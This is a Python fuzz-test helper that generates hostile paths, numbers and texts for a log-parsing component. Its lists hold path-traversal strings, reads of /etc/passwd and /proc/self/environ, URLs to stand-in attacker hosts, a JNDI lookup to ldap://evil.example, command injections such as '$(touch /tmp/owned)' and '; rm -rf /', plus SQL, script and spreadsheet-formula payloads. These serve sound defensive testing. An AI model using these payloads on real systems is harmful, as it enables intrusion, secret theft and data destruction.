"""What a hostile writer puts into a log: paths, numbers and texts."""

from __future__ import annotations

import json
import random
import re
from typing import Any

from tests.attacks.fuzz.tables import Places

__all__ = ["Raw", "dumps", "hostile_number", "hostile_path", "hostile_text", "hostile_value"]

_RAW = re.compile('"\ue000(.*?)\ue000"')


def Raw(token: str) -> str:
    """A token that `dumps` writes as it stands: ``1e400``, ``NaN``."""
    return f"\ue000{token}\ue000"


def dumps(value: Any) -> bytes:
    """JSON with raw tokens; lone surrogates are escaped."""
    text = json.dumps(value, separators=(",", ":"), ensure_ascii=True)
    text = text.replace("\\ue000", "\ue000")
    return _RAW.sub(r"\1", text).encode()


def hostile_path(places: Places, rng: random.Random) -> str:
    """A path as it may stand in a log, of any scheme and form."""
    paths = _paths(places)
    if rng.random() < 0.2:
        return rng.choice(paths) + rng.choice(("", "/", "%00", "?x=1", "#x", "%", "/../x", " "))
    return rng.choice(paths)


def _paths(places: Places) -> list[str]:
    out, name = places.outside, places.outside.rpartition("/")[2]
    host = f"127.0.0.1:{places.port}"
    up = "/".join([".."] * 12)
    return [
        f"{out}/x.parquet",
        f"{out}/secret.txt",
        f"file:{out}/x.parquet",
        f"file://{out}/x.parquet",
        f"file://localhost{out}/secret.txt",
        f"FILE:{out}/x.parquet",
        f"file://{host}{out}/x.parquet",
        f"../{name}/x.parquet",
        f"../{name}/victim/a.parquet",
        f"part=x/../../{name}/x.parquet",
        f"%2e%2e/{name}/x.parquet",
        f"%2E./{name}/secret.txt",
        f"..%2f{name}%2fx.parquet",
        f"part=x%2f..%2f..%2f{name}%2fx.parquet",
        f"./../{name}/x.parquet",
        f"part=x/./../../{name}/x.parquet",
        f"{places.root}/../{name}/x.parquet",
        f"{places.root}/part=x/%2e%2e/%2e%2e/{name}/x.parquet",
        f"file:{places.root}/..%2f{name}/x.parquet",
        f"{up}/proc/self/environ",
        "/proc/self/environ",
        "/proc/self/mem",
        "/dev/zero",
        "/dev/stdin",
        "/etc/passwd",
        "file:/proc/self/environ",
        "file:///proc/self/environ",
        "s3://evil-bucket/x.parquet",
        "s3a://evil-bucket/x.parquet",
        "s3n://evil/x.parquet",
        "s3://evil.example#/k",
        "s3://user@evil/x.parquet",
        f"s3://{host}/x.parquet",
        "abfss://c@acct.dfs.evil.example/x.parquet",
        "abfss://c@account.dfs.core.windows.net/x.parquet",
        "abfs://c@acct.dfs.core.windows.net.evil.example/x",
        "az://container/x.parquet",
        "adl://evil.azuredatalakestore.net/x",
        "wasbs://c@acct.blob.evil.example/x",
        "https://acct.blob.evil.example/c/x.parquet",
        "gs://evil-bucket/x.parquet",
        "gcs://evil-bucket/x.parquet",
        "ftp://evil.example/x",
        f"ftp://user:password@{host}/x",
        f"http://{host}/x.parquet",
        f"https://{host}/x.parquet",
        f"http://user:password@{host}/x.parquet",
        f"webhdfs://{host}/x",
        "hdfs://evil.example:8020/x.parquet",
        "sftp://evil.example/x",
        "ssh://evil.example/x",
        "smb://evil.example/share/x",
        "dbfs:/mnt/x.parquet",
        "memory://evil/x.parquet",
        "github://evil:repo@main/x",
        f"simplecache::http://{host}/x",
        f"filecache::file://{out}/x.parquet",
        f"zip://x.parquet::file://{out}/x.zip",
        "reference://x",
        "data:text/plain;base64,UEFSMQ==",
        "data:,x",
        "javascript:alert(1)",
        "\\\\evil\\share\\x.parquet",
        "//evil/share/x.parquet",
        "file:////evil/share/x",
        "C:\\Windows\\x.parquet",
        "C:/x.parquet",
        "",
        ".",
        "..",
        "/",
        "//",
        "part=x/",
        "part=x",
        "_delta_log",
        "_delta_log/00000000000000000000.json",
        "_delta_log/../_delta_log/_last_checkpoint",
        "part=x/../_delta_log/00000000000000000006.json",
        f"{places.root}/_delta_log/00000000000000000006.json",
        places.root,
        f"{places.root}/",
        "a\0b.parquet",
        "a%00b.parquet",
        "%00",
        "%",
        "%zz/x",
        "%c3%28.parquet",
        "%ff%fe",
        "%C3%A9.parquet",
        "%c3%a9.parquet",
        "é.parquet",
        "e\u0301.parquet",
        "\u202egnp.parquet",
        "\ud800.parquet",
        "\uffff\u2028\u2029",
        "a\nb.parquet",
        "a\x1b[31mred\x1b[0m.parquet",
        "%1b%5b31m.parquet",
        "\x7f\x9b\x85",
        "~/x.parquet",
        "$HOME/x.parquet",
        "{outside}",
        "*",
        "part=x/*.parquet",
        "a" * 256,
        "a" * 5000,
        "/".join(["b" * 200] * 30),
        "../" * 5000 + "x",
        "a/" * 5000 + "x",
        "%2e%2e/" * 2000,
        "part=x/f.parquet/below",
        "part=x//f.parquet",
        "./part=x/f.parquet",
        "part%3Dx/f.parquet",
        f"{places.root}/part=x/f.parquet",
        f"file:{places.root}/part=x/f.parquet",
        f"file://{places.root}/part=x/f.parquet",
        "://",
        ":",
        "a:b",
        "1:2/x",
        "x" * 300 + "://h/x",
    ]


NUMBERS: tuple[Any, ...] = (
    -1,
    0,
    1,
    -(2**31),
    2**31 - 1,
    2**31,
    2**32,
    2**53 + 1,
    2**63 - 1,
    2**63,
    -(2**63),
    -(2**63) - 1,
    2**64,
    10**30,
    10**400,
    0.5,
    -0.0,
    1e300,
    Raw("1e400"),
    Raw("-1e400"),
    Raw("1e-400"),
    Raw("NaN"),
    Raw("-Infinity"),
    Raw("1E5"),
    Raw("1.0"),
    Raw("9" * 5000),
    Raw("01"),
    Raw("0x10"),
    Raw("1_000"),
    "12",
    "-5",
    "1e5",
    "NaN",
    "9" * 400,
    "",
    True,
    None,
    [],
    {},
    [1],
)


def hostile_number(rng: random.Random) -> Any:
    """Something where a number is expected."""
    return rng.choice(NUMBERS)


TEXTS = (
    "",
    " ",
    "\0",
    "a\0b",
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[31mred",
    "line one\nairflow-delta: forged line",
    "a\rb",
    "\u2028\u2029\x85",
    "\u202ereversed",
    "\ud800",
    "\udfff\ud800",
    "%s%s%s%n",
    "{0.__class__}",
    "{{ var.value.secret }}",
    "${jndi:ldap://evil.example/x}",
    "$(touch /tmp/owned)",
    "; rm -rf /",
    "' OR 1=1 --",
    "<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "null",
    "__HIVE_DEFAULT_PARTITION__",
    "9999-99-99",
    "-292277022657-01-01T00:00:00Z",
    "+1000000-01-01",
    "1970-01-01 00:00:00.9999999999999999",
    "1e999999999",
    "9" * 2000,
    "0." + "9" * 2000,
    "x" * 100_000,
    "\\" * 5000,
    '\\"' * 5000,
    "[" * 5000,
    "(" * 5000,
    "`" * 4999,
    "é" * 3000,
    "interval 99999999999999999999 weeks",
    "interval -1 days",
    "interval 1 fortnight",
    "-1",
    "99999999999999999999",
    "nan",
    "TRUE",
    "../../x",
    "/proc/self/environ",
    "sql",
)


def hostile_text(rng: random.Random) -> str:
    """Something where a text is expected."""
    return rng.choice(TEXTS)


def hostile_value(places: Places, old: Any, rng: random.Random) -> Any:
    """Something in the place of a value, mostly of its kind."""
    kind = rng.random()
    if isinstance(old, bool):
        return rng.choice((not old, None, "true", 1, [], {}))
    if isinstance(old, int | float) and kind < 0.85:
        return hostile_number(rng)
    if isinstance(old, str) and kind < 0.45:
        return hostile_text(rng)
    if isinstance(old, str) and kind < 0.8:
        return hostile_path(places, rng)
    return rng.choice(
        (None, True, 0, -1, "", "x", [], {}, [None], [[]], {"": None}, [{}], {"x": {}})
    )
